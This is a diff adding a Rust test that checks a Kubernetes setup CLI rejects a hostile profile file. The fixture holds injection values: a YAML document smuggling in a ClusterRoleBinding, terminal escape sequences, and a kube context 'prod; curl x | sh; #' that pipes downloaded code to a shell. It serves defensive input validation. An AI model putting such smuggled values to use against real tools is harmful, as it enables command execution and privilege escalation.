@@ -73,6 +73,42 @@ fn bad_answers_are_refused_before_anything_is_written() {
     );
 }
 
+/// A value that would add a YAML document (a ClusterRoleBinding the wizard then offers to
+/// apply), an escape sequence in an image, a shell command in the kube context: each refused by
+/// name before anything is written, and no control character reaches the terminal.
+#[test]
+fn hostile_profile_values_are_refused_and_never_printed_raw() {
+    let dir = tempfile::tempdir().unwrap();
+    let answers = dir.path().join("answers.yaml");
+    let injected = "repos:\n  gitops:\n    folder: \"apps\\n---\\napiVersion: rbac.authorization.k8s.io/v1\\nkind: ClusterRoleBinding\"\n    url: \"https://example.com\"\nimages:\n  litellm: \"evil\\e[2J\\e]0;pwned\\a:1\"\ncluster:\n  kube_context: \"prod; curl x | sh; #\"\n  \"bad\\e[31mkey\": 1\naws:\n  region: \"us-east-1\\n\"\n";
+    fs::write(&answers, injected).unwrap();
+    let out = dir.path().join("out");
+    let output = clawboot(&[
+        "--profile",
+        &answers.display().to_string(),
+        "render",
+        "--out",
+        &out.display().to_string(),
+    ]);
+    assert_eq!(output.status.code(), Some(2));
+    let stderr = text(&output.stderr);
+    for expected in [
+        "repos.gitops.folder: must not hold control characters",
+        "images.litellm: must not hold control characters",
+        "aws.region: must not hold control characters",
+        "cluster.kube_context: must be empty (kubectl's current context) or a context name",
+        "repos.gitops.url: must be the repository's URL",
+        "cluster.bad\\u{1b}[31mkey: unknown field `bad\\u{1b}[31mkey`",
+    ] {
+        assert!(stderr.contains(expected), "missing {expected:?} in:\n{stderr}");
+    }
+    assert!(
+        !stderr.chars().any(|c| c.is_control() && c != '\n'),
+        "a control character reached the terminal: {stderr:?}"
+    );
+    assert!(!out.exists(), "render wrote files from a hostile profile");
+}
+
 #[test]
 fn every_command_has_help_and_the_binary_a_version() {
     for args in [
